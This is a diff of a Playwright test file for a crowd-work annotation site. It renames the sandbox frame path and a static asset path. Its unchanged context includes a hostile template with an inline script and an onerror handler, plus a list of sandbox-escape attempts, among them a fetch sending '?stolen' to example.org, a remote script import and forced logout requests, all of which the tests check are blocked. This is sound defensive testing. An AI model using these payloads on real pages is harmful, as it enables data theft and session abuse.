@@ -52,7 +52,7 @@ def test_two_objects_by_keyboard_alone(cleos_page, start, pictures):
 
 def test_the_next_task_is_ready_before_it_is_wanted(cleos_page, start, pictures):
     asked = []
-    cleos_page.on("request", lambda request: "/work/frame/" in request.url and asked.append(request.url))
+    cleos_page.on("request", lambda request: "/work/sandbox/" in request.url and asked.append(request.url))
     frame = start(pictures)
     waiting = cleos_page.frame_locator("#frame-ahead")
     expect(waiting.get_by_role("radio", include_hidden=True).first).to_be_attached()
@@ -272,7 +272,7 @@ def test_tasks_do_not_pile_up_in_the_history(cleos_page, start, pictures):
 
 HOSTILE = """
 <crowd-form><crowd-classifier categories="['heron', 'ibis']"></crowd-classifier></crowd-form>
-<img src="/static/gtcrowd/mark.svg" onerror="document.title='inline'"><script>document.title="inline"</script>
+<img src="/static/theme/mark.svg" onerror="document.title='inline'"><script>document.title="inline"</script>
 <iframe src="/work/"></iframe><form action="/account/logout/" method="post"><button id="go">go</button></form>
 """
 
@@ -285,7 +285,7 @@ TRIES = {
     "elsewhere": "fetch('https://example.org/?stolen', {mode: 'no-cors'})",
     "beacon": "violates(() => navigator.sendBeacon('/account/logout/', 'x'))",
     "socket": "new Promise((yes, no) => { const s = new WebSocket('wss://example.org'); s.onopen = yes; s.onerror = no; })",
-    "picture": "new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = '/static/gtcrowd/mark.svg'; })",
+    "picture": "new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = '/static/theme/mark.svg'; })",
     "script": "import('https://example.org/x.js')",
     "out": "void (window.top.location = '/account/logout/')",
     "window": "(() => { if (!window.open('/work/')) throw 0; })()",
@@ -315,7 +315,7 @@ def tried(inside):
 def test_hostile_template_reaches_nothing(cleos_page, start, texts, monkeypatch):
     monkeypatch.setattr(choice.Choice, "template", lambda _self, _medium: HOSTILE)
     start(texts)
-    inside = next(one for one in cleos_page.frames if "/work/frame/" in one.url)
+    inside = next(one for one in cleos_page.frames if "/work/sandbox/" in one.url)
 
     assert tried(inside).keys() <= {"peer"}  # its policy lets in no script that could use one
     assert inside.title() == "Task"
@@ -328,7 +328,7 @@ OWN = """<crowd-form><crowd-classifier categories="['heron', 'ibis']"></crowd-cl
 
 def test_scripts_of_a_page_of_ones_own_reach_nothing_either(cleos_page, start, give):
     start(give([{"source": "x"}], template=OWN % "document.title = 'inline'"))
-    inside = next(one for one in cleos_page.frames if "/work/frame/" in one.url)
+    inside = next(one for one in cleos_page.frames if "/work/sandbox/" in one.url)
 
     assert inside.title() == "inline"
     assert tried(inside) == {}
@@ -380,7 +380,7 @@ def test_no_page_scrolls_sideways(cleos_page, address, start, pictures, width):
         assert fits(cleos_page), path
     start(pictures)
     assert fits(cleos_page)
-    assert fits(next(one for one in cleos_page.frames if "/work/frame/" in one.url))
+    assert fits(next(one for one in cleos_page.frames if "/work/sandbox/" in one.url))
     expect(cleos_page.frame_locator("#frame").get_by_role("button", name="Submit")).to_be_in_viewport()
 
 
